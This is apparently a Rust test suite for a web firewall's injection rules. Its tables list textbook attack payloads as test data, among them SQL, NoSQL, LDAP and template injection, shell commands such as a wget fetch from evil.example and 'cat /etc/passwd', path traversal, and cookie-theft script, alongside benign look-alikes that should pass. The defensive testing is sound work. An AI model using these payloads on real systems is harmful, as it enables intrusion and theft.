//! The starter ACL's injection rules (`rulesets/starter-acl.json`, priorities 60-79, written by
//! `rulesets/gen-starter-rules.py`), through the embedded ACL exactly as `webacl serve` loads it.
//!
//! * One textbook attack per rule, in the place it usually travels, is blocked with that rule as
//!   the terminating rule (no earlier rule takes it).
//! * Benign look-alikes pass: GoTestWAF's benign texts that start with command names, a JSON body
//!   with `$` prices, e-mail addresses, `{{name}}` in prose, pipe-separated lists, markdown code,
//!   .NET/JSON-Schema `$type` keys, and the base64 that ordinary traffic carries.
//! * The ACL is within AWS's 5,000 WCU and its `Capacity` field is what we compute.

use base64::Engine as _;
mod common;

use serde_json::{json, Value};
use webacl::compile::{BuildOptions, CompiledAcl};

const CHROME_UA: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36";

fn starter() -> CompiledAcl {
    webacl::efficacy::load_acl(None, None, &BuildOptions::default())
        .expect("starter ACL builds")
        .0
}

/// A request as a browser or API client sends it: where the value goes, and the value.
enum At {
    /// `GET /search?<query>` (the query as written, already URL-encoded).
    Query(String),
    /// `POST /form`, `application/x-www-form-urlencoded`, body as written.
    Form(String),
    /// `POST /api`, `application/json`.
    Json(Value),
    /// `GET <path>`.
    Path(String),
    /// `GET /` with one more header.
    Header(&'static str, &'static str),
    /// `GET /` with this User-Agent.
    UserAgent(&'static str),
}

fn query(q: &str) -> At {
    At::Query(q.into())
}
fn form(body: &str) -> At {
    At::Form(body.into())
}
fn path(p: &str) -> At {
    At::Path(p.into())
}

fn http(at: &At) -> Value {
    let mut headers = vec![
        json!({"name": "Host", "value": "shop.example.com"}),
        json!({"name": "Accept", "value": "text/html,application/json;q=0.9,*/*;q=0.8"}),
        json!({"name": "Accept-Language", "value": "en-US,en;q=0.9"}),
    ];
    let ua = match at {
        At::UserAgent(ua) => ua,
        _ => CHROME_UA,
    };
    headers.push(json!({"name": "User-Agent", "value": ua}));
    let (method, uri, args, body) = match at {
        At::Query(q) => ("GET", "/search", q.to_string(), None),
        At::Form(b) => {
            headers.push(
                json!({"name": "Content-Type", "value": "application/x-www-form-urlencoded"}),
            );
            ("POST", "/form", String::new(), Some(b.to_string()))
        }
        At::Json(v) => {
            headers.push(json!({"name": "Content-Type", "value": "application/json"}));
            ("POST", "/api", String::new(), Some(v.to_string()))
        }
        At::Path(p) => ("GET", p.as_str(), String::new(), None),
        At::Header(name, value) => {
            headers.push(json!({"name": name, "value": value}));
            ("GET", "/", String::new(), None)
        }
        At::UserAgent(_) => ("GET", "/", String::new(), None),
    };
    let mut r = json!({"clientIp": "198.51.100.7", "headers": headers, "uri": uri, "args": args,
                       "httpVersion": "HTTP/1.1", "httpMethod": method});
    if let Some(b) = body {
        r["body"] = Value::String(b);
    }
    r
}

/// Evaluates one request; returns (action, terminating rule) from its log record.
fn verdict(acl: &CompiledAcl, request: &Value) -> (String, String) {
    let log = common::log_record(acl, request);
    let s = |v: &Value| v.as_str().unwrap_or_default().to_string();
    (s(&log["action"]), s(&log["terminatingRuleId"]))
}

/// (rule expected to stop it, what it is, the request)
#[rustfmt::skip] // a table: one case per line
fn attacks() -> Vec<(&'static str, &'static str, At)> {
    vec![
        ("BlockNoSqlInjection", "operator as a JSON key", At::Json(json!({"user": "admin", "password": {"$ne": null}}))),
        ("BlockNoSqlInjection", "operator in query argument names", query("user[$ne]=x&password[$ne]=x")),
        ("BlockNoSqlInjection", "$where in a form", form("q=1%27%2C+%24where%3A+%27sleep%281000%29")),
        ("BlockLdapInjection", "filter injection", form("user=*)(uid=*))(|(uid=*")),
        ("BlockLdapInjection", "OR filter in JSON", At::Json(json!({"user": "admin)(|(objectclass=*)"}))),
        ("BlockMailInjection", "Bcc header after an address", form("email=dana%40example.com%0D%0ABcc%3A+list%40evil.example")),
        ("BlockMailInjection", "SMTP command", form("subject=hi%0D%0ARCPT+TO%3A+%3Cvictim%40example.com%3E")),
        ("BlockServerSideIncludes", "exec directive", form("comment=%3C%21--%23exec+cmd%3D%22ls%22+--%3E")),
        ("BlockTemplateInjection", "arithmetic probe", query("name=%7B%7B7*7%7D%7D")),
        ("BlockTemplateInjection", "Spring EL", At::Json(json!({"name": "${T(java.lang.Runtime).getRuntime().exec('id')}"}))),
        ("BlockCrlfInjection", "response splitting in the path", path("/redirect%0D%0ASet-Cookie:%20session=evil")),
        ("BlockShellCommandInjection", "separator and wget", form("host=8.8.8.8%3B+wget+http%3A%2F%2Fevil.example%2Fx.sh")),
        ("BlockShellCommandInjection", "command substitution", At::Json(json!({"host": "$(whoami)"}))),
        ("BlockShellCommandInjection", "in a custom header", At::Header("X-Forwarded-Host", "a.example && cat /etc/passwd")),
        ("BlockCodeInjection", "PyYAML object tag", At::Json(json!({"config": "!!python/object/apply:os.system [\"id\"]"}))),
        ("BlockScriptInjection", "script without markup", form("q=alert.call%28null%2C1%29")),
        ("BlockScriptInjection", "cookie theft in JSON", At::Json(json!({"bio": "x=document.cookie"}))),
        ("BlockSqlInjectionPatterns", "tautology in JSON", At::Json(json!({"id": "1' OR '1'='1"}))),
        ("BlockSqlInjectionPatterns", "time delay in a custom header", At::Header("X-Account", "1) AND SLEEP(5) AND (1=1")),
        ("BlockSensitiveFileAccess", "passwd via JSON", At::Json(json!({"file": "../../../../etc/passwd"}))),
        ("BlockSensitiveFileAccess", "Windows admin share", form("path=%5C%5Cfileserver%5Cc%24%5Cwindows%5Cwin.ini")),
        ("BlockOastCallbackDomains", "blind SSRF callback", query("url=http%3A%2F%2Fq2x7.oastify.com%2F")),
        ("BlockGraphqlIntrospection", "schema query", At::Json(json!({"query": "{__schema{types{name}}}"}))),
        ("BlockScannerUserAgents", "Nuclei", At::UserAgent("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)")),
    ]
}

#[test]
fn each_new_rule_stops_a_textbook_attack_of_its_class() {
    let acl = starter();
    let mut failures = Vec::new();
    for (rule, what, at) in attacks() {
        let got = verdict(&acl, &http(&at));
        if got != ("BLOCK".to_string(), rule.to_string()) {
            failures.push(format!("{rule} / {what}: got {got:?}"));
        }
    }
    assert!(failures.is_empty(), "{failures:#?}");
}

/// GoTestWAF's benign texts (false-pos/texts.yml) that start with a command name, and other
/// ordinary values that look like the new rules' patterns.
#[rustfmt::skip] // a table: one case per line
fn benign() -> Vec<(&'static str, At)> {
    vec![
        ("command word then prose", form("text=bash+away+in+the+gym")),
        ("command word then prose", form("text=curl+and+divergence")),
        ("command word then number", query("q=ls+300+lexus")),
        ("command word then number", query("q=nc+8000+controller")),
        ("command word then noun", At::Json(json!({"text": "exec noun"}))),
        ("command word then prose", At::Json(json!({"text": "zsh is the best!"}))),
        ("command word then prose", form("text=echo+in+the+mirror")),
        ("semicolon then English", form("text=The+Senora+found+herself+a+heroine%3B+more+than+that")),
        ("semicolon then a language", form("langs=I+like+java%3B+python+is+fine+too")),
        ("pipe-separated list", query("tags=dog|cat|bird&fields=id|name")),
        ("dollar prices in JSON", At::Json(json!({"price": "$12.99", "note": "was $15; you save $3", "total": 12.99}))),
        ("jQuery in a snippet", form("snippet=%24%28document%29.ready%28init%29")),
        ("e-mail addresses", At::Json(json!({"email": "dana.miller@example.com", "cc": "ops@example.com"}))),
        ("e-mail in a form", form("email=dana.miller%40example.com&name=Dana")),
        ("template placeholders in prose", form("msg=Hello+%7B%7Bname%7D%7D%2C+order+%7B%7Border.id%7D%7D+has+shipped")),
        ("template literal name", At::Json(json!({"tpl": "Dear ${firstName}, thanks"}))),
        (".NET and JSON Schema keys", At::Json(json!({"$type": "Shop.Order", "$id": "1", "$schema": "https://json-schema.org/draft/2020-12/schema"}))),
        ("markdown code in prose", form("body=Run+%60ls+-la%60+or+%60cat+notes.txt%60+to+see+them")),
        ("a sentence about documents", form("note=Please+sign+the+document.+Location%3A+Berlin")),
        ("select committee", query("q=Union+Select+Committee+report")),
        ("sleep in prose", form("tip=get+8+hours+of+sleep+%28really%29")),
        ("Windows path", form("path=C%3A%5CUsers%5Cdana%5CDocuments%5Creport.docx")),
        ("parenthesised options", form("q=mugs+%28ceramic+or+pottery%29")),
        ("multiline text", form("text=Dear+team%2C%0D%0AData+attached.%0D%0AQuit+worrying%21")),
        ("GoTestWAF benign: cookie note", form("t=I+setted+the+COOKIE+value+to+%3A+expandGeoJsonFeatures%3Dtrue%3B")),
        ("GoTestWAF benign: pipe and amp", query("t=The+parameter+5+is%26%7C.")),
        ("request id header", At::Header("X-Request-Id", "7f3c2a10-5b8e-4d6f-9a1b-2c3d4e5f6a7b")),
        ("ordinary API client UA", At::UserAgent("ShopApp/5.2.1 (iOS 17.4; iPhone15,2) okhttp/4.12.0")),
    ]
}

#[test]
fn benign_look_alikes_pass() {
    let acl = starter();
    let mut failures = Vec::new();
    for (what, at) in benign() {
        let got = verdict(&acl, &http(&at));
        if got.0 != "ALLOW" {
            failures.push(format!("{what}: got {got:?}"));
        }
    }
    assert!(failures.is_empty(), "{failures:#?}");
}

fn b64(bytes: &[u8]) -> String {
    base64::engine::general_purpose::STANDARD_NO_PAD.encode(bytes)
}

/// Where AWS cannot decode (a form body, a path), the base64 spelling of an attack token is
/// caught at each of the three byte alignments a token can have inside the encoded text.
#[test]
fn base64_attack_tokens_are_caught_at_every_alignment_in_body_and_path() {
    let acl = starter();
    let mut failures = Vec::new();
    for payload in [
        "<script>alert(1)</script>",
        "x' UNION SELECT password FROM users--",
        ";wget http://evil.example/x.sh",
        "<!--#exec cmd=\"id\" -->",
        "{\"user\": {\"$where\": \"sleep(100)\"}}",
        "../../../../etc/passwd",
    ] {
        for pad in ["", "a", "ab"] {
            let text = b64(format!("{pad}{payload}").as_bytes());
            for at in [
                form(&format!("data={text}")),
                path(&format!("/files/{text}")),
            ] {
                let got = verdict(&acl, &http(&at));
                if got != ("BLOCK".into(), "BlockBase64AttackTokens".into()) {
                    failures.push(format!(
                        "{payload:?} after {pad:?} in {}: {got:?}",
                        match at {
                            At::Form(_) => "body",
                            _ => "path",
                        }
                    ));
                }
            }
        }
    }
    assert!(failures.is_empty(), "{failures:#?}");
}

#[test]
fn ordinary_base64_passes() {
    let acl = starter();
    let jwt = "eyJhbGciOiJIUzI1NiJ9.eyJ1c2VyIjoiYWxpY2UiLCJpYXQiOjE3MDAwMDAwMDB9.c2lnbmF0dXJlLXBsYWNlaG9sZGVy";
    let png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg";
    let text = b64(b"men's trail shoes, size 42 (blue); delivered on Tuesday");
    // Deterministic pseudo-random bytes, as an uploaded file or a token would carry.
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    let noise: Vec<u8> = (0..6000)
        .map(|_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            (state >> 24) as u8
        })
        .collect();
    let noise = b64(&noise);
    for (what, at) in [
        ("JWT in a form", form(&format!("token={jwt}"))),
        (
            "image data URL in JSON",
            At::Json(json!({"avatar": format!("data:image/png;base64,{png}")})),
        ),
        (
            "base64 of ordinary text in a path",
            path(&format!("/notes/{text}")),
        ),
        (
            "8 KB of random base64 in a form",
            form(&format!("file={noise}")),
        ),
    ] {
        let got = verdict(&acl, &http(&at));
        assert_eq!(got.0, "ALLOW", "{what}: {got:?}");
    }
}

#[test]
fn starter_acl_fits_aws_capacity_and_declares_what_we_compute() {
    let acl = starter();
    assert!(acl.capacity() <= 5_000, "{} WCU", acl.capacity());
    assert_eq!(acl.declared_capacity(), Some(acl.capacity()));
}
